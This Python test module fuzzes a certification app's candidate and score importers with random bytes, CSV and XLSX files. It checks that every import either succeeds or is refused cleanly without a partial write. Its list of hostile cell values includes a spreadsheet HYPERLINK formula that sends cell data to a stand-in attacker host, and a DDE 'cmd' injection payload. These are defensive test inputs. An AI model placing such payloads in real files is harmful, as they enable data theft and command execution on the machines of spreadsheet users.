"""Both importers against random input: random bytes, random CSV, random XLSX.

Whatever the file, an import ends in one of two ways: a report, or a refusal (``FileRejected``,
or a ``Refused`` of the error family) whose every problem is French and quotes at most 80
characters of a value — never another exception, and never a partial write: a refused import
leaves every table as it was. The examples are few and small, so that the whole module runs in
well under a minute; it runs on SQLite and, with ``CERTIF_DATABASE_URL`` naming one, on
PostgreSQL (which refuses a NUL in text outright: the readers must catch it first).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from certif.candidates.models import Candidate
from certif.core.errors import Refused
from certif.core.models import AuditEvent
from certif.domain.referential.schema import Referential
from certif.grading.models import Score, ScoreChange, ScoreSheet
from certif.imports.candidates import COLUMNS as CANDIDATE_COLUMNS
from certif.imports.candidates import import_candidates
from certif.imports.models import ImportBatch
from certif.imports.reading import FileRejected
from certif.imports.scores import OPTIONAL, REQUIRED, import_scores
from certif.sessions.models import Enrolment, ExamSession
from tests.support.builders import score_rows
from tests.support.files import CANDIDATE_HEADER

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# What quoted() may add to its 80 characters, and the longest message around it.
LONGEST_PROBLEM = 600


def _tables() -> tuple[int, ...]:
    return tuple(
        model.objects.count()
        for model in (
            Candidate, ScoreSheet, Score, ScoreChange, Enrolment, ExamSession, ImportBatch,
            AuditEvent,
        )
    )  # fmt: skip


def _attempt(run: Callable[[Path], Any], path: Path, counted: bool = True) -> None:
    """``counted``: inside a hypothesis test, whose statistics count the outcomes."""
    before = _tables()
    refusal: Exception | None = None
    try:
        report = run(path)
    except (FileRejected, Refused) as refused:
        refusal = refused
    if counted:
        event("imported" if refusal is None else f"refused ({type(refusal).__name__})")
    if refusal is None:
        assert report.lines()
        return
    assert _tables() == before
    problems = refusal.problems if isinstance(refusal, FileRejected) else []
    assert str(refusal) or problems
    for problem in problems:
        assert problem.message
        assert len(problem.describe()) <= LONGEST_PROBLEM, problem.describe()[:200]


@pytest.fixture
def importers(candidates: list[Candidate], ccab: Referential) -> dict[str, Any]:
    return {"candidates": import_candidates, "scores": partial(import_scores, create_sessions=True)}


# -- random bytes -------------------------------------------------------------------------------


@FUZZ
@given(
    data=st.binary(max_size=2_000),
    kind=st.sampled_from(["candidates", "scores"]),
    suffix=st.sampled_from(["csv", "xlsx"]),
)
def test_random_bytes_are_refused_or_imported_never_an_exception(
    importers: dict[str, Any], tmp_path: Path, data: bytes, kind: str, suffix: str
) -> None:
    path = tmp_path / f"f.{suffix}"
    path.write_bytes(data)
    _attempt(importers[kind], path)


# -- random CSV ---------------------------------------------------------------------------------

any_text = st.text(max_size=40)
hostile_text = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "+cmd|' /C calc'!A0",
        "'=x",
        "\x00",
        "a\x13b",
        "\u2028",
        "\ufeff",
        "\ud7ff\ue000",
        '"',
        "x" * 40_000,
    ]
)


def _cells(plausible: list[str]) -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(plausible), any_text, hostile_text)


CANDIDATE_VALUES = [
    "C001",
    "C003",
    "Dupont",
    "Marie Anne",
    "12/03/1990",
    "1990-03-12",
    "F",
    "",
    "AB",
]
SCORE_VALUES = [
    "C001",
    "C002",
    "2026-06",
    "B1",
    "B3",
    "pme",
    "",
    "B1Cr1",
    "B1Cr2",
    "2",
    "2,5",
    "oui",
]


@st.composite
def csv_files(draw: Any, columns: tuple[str, ...], values: list[str]) -> bytes:
    header = draw(st.lists(st.one_of(st.sampled_from(columns), any_text), min_size=1, max_size=8))
    width = st.integers(min_value=max(len(header) - 1, 0), max_value=len(header) + 1)
    rows = draw(
        st.lists(
            st.lists(_cells(values), min_size=0, max_size=10).filter(lambda row: True), max_size=6
        )
    )
    rows = [row[: draw(width)] for row in rows]
    separator = draw(st.sampled_from([";", ",", "\t"]))
    buffer = io.StringIO()
    writer = csv.writer(
        buffer, delimiter=separator, lineterminator=draw(st.sampled_from(["\n", "\r\n"]))
    )
    try:
        writer.writerow(header)
        writer.writerows(rows)
    except csv.Error:
        pass
    text = buffer.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    return text.encode(encoding, errors="replace" if encoding == "cp1252" else "surrogatepass")


@FUZZ
@given(data=csv_files(CANDIDATE_COLUMNS, CANDIDATE_VALUES))
def test_random_candidate_csv_files_are_refused_or_imported(
    importers: dict[str, Any], tmp_path: Path, data: bytes
) -> None:
    path = tmp_path / "c.csv"
    path.write_bytes(data)
    _attempt(importers["candidates"], path)


@FUZZ
@given(data=csv_files((*REQUIRED, *OPTIONAL), SCORE_VALUES))
def test_random_score_csv_files_are_refused_or_imported(
    importers: dict[str, Any], tmp_path: Path, data: bytes
) -> None:
    path = tmp_path / "n.csv"
    path.write_bytes(data)
    _attempt(importers["scores"], path)


def test_plausible_score_rows_can_be_imported_by_the_same_harness(
    importers: dict[str, Any], ccab: Referential, tmp_path: Path
) -> None:
    """The harness accepts too: a fuzz that only ever refused would prove little."""
    path = tmp_path / "n.csv"
    rows = score_rows(ccab, "C001", "B1", "12")
    path.write_text("\n".join(";".join(row) for row in [REQUIRED, *rows]) + "\n", encoding="utf-8")
    before = Score.objects.count()
    _attempt(importers["scores"], path, counted=False)
    assert Score.objects.count() == before + len(rows)


# -- random XLSX --------------------------------------------------------------------------------

xlsx_cells = st.one_of(
    st.none(),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(),
    _cells(CANDIDATE_VALUES + SCORE_VALUES),
)


def _xlsx(header: list[Any], rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    for row in [header, *rows]:
        # What XML cannot hold, openpyxl refuses to write: a file Excel could not write either.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@FUZZ
@given(
    header=st.lists(
        st.one_of(st.sampled_from([*CANDIDATE_COLUMNS, *REQUIRED, *OPTIONAL]), xlsx_cells),
        max_size=8,
    ),
    rows=st.lists(st.lists(xlsx_cells, max_size=9), max_size=5),
    kind=st.sampled_from(["candidates", "scores"]),
)
def test_random_xlsx_workbooks_are_refused_or_imported(
    importers: dict[str, Any],
    tmp_path: Path,
    header: list[Any],
    rows: list[list[Any]],
    kind: str,
) -> None:
    path = tmp_path / "f.xlsx"
    path.write_bytes(_xlsx(header, rows))
    _attempt(importers[kind], path)


@FUZZ
@given(
    changes=st.lists(
        st.tuples(st.integers(min_value=0), st.binary(min_size=1, max_size=8)),
        min_size=1,
        max_size=6,
    ),
    kind=st.sampled_from(["candidates", "scores"]),
)
def test_damaged_xlsx_workbooks_are_refused_never_an_exception(
    importers: dict[str, Any], tmp_path: Path, changes: list[tuple[int, bytes]], kind: str
) -> None:
    data = bytearray(_xlsx(list(CANDIDATE_COLUMNS[:4]), [["C009", "Roux", "Zoé", "02/02/2000"]]))
    for at, replacement in changes:
        start = at % len(data)
        data[start : start + len(replacement)] = replacement
    path = tmp_path / "f.xlsx"
    path.write_bytes(bytes(data))
    _attempt(importers[kind], path)


def test_the_damaged_workbooks_base_is_a_valid_workbook() -> None:
    data = _xlsx(list(CANDIDATE_COLUMNS[:4]), [["C009", "Roux", "Zoé", "02/02/2000"]])
    assert zipfile.is_zipfile(io.BytesIO(data))


# -- plausible files: most import, some are refused row by row -----------------------------------


def _b1_criteria() -> list[str]:
    from certif.domain.referential.loading import load_builtin_referential

    block = load_builtin_referential().referential.block("B1")
    return [criterion.code for criterion in block.criteria]


@st.composite
def plausible_scores(draw: Any) -> bytes:
    criteria = _b1_criteria()
    keys = draw(
        st.lists(
            st.tuples(st.sampled_from(["C001", "C002"]), st.sampled_from(criteria)),
            min_size=1,
            max_size=8,
            unique=True,
        )
    )
    value = st.one_of(st.sampled_from(["0", "1", "2", "2,5", "0.75", "oui", "", "-1"]), any_text)
    rows = [(numero, "2026-06", "B1", "", code, draw(value)) for numero, code in keys]
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]))
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows([REQUIRED, *rows])
    return buffer.getvalue().encode(
        encoding, errors="replace" if encoding == "cp1252" else "surrogatepass"
    )


@FUZZ
@given(data=plausible_scores(), replace=st.booleans())
def test_plausible_score_files_import_or_are_refused_by_row_never_in_part(
    importers: dict[str, Any], tmp_path: Path, data: bytes, replace: bool
) -> None:
    path = tmp_path / "n.csv"
    path.write_bytes(data)
    _attempt(lambda file: import_scores(file, replace=replace, create_sessions=True), path)


@st.composite
def plausible_candidates(draw: Any) -> bytes:
    numeros = draw(
        st.lists(
            st.sampled_from(["C001", "C002", "C003", "C004"]), min_size=1, max_size=4, unique=True
        )
    )
    name = st.one_of(st.sampled_from(["Dupont", "Lefèvre", "N'Diaye", "=1+1", "+33"]), any_text)
    date = st.sampled_from(["12/03/1990", "1990-03-12", "31/02/1990", ""])
    rows = [(numero, draw(name), draw(name), draw(date)) for numero in numeros]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows([CANDIDATE_HEADER, *rows])
    encoding = draw(st.sampled_from(["utf-8", "utf-16", "cp1252"]))
    return buffer.getvalue().encode(
        encoding, errors="replace" if encoding == "cp1252" else "surrogatepass"
    )


@FUZZ
@given(data=plausible_candidates())
def test_plausible_candidate_files_import_or_are_refused_by_row_never_in_part(
    importers: dict[str, Any], tmp_path: Path, data: bytes
) -> None:
    path = tmp_path / "c.csv"
    path.write_bytes(data)
    _attempt(importers["candidates"], path)
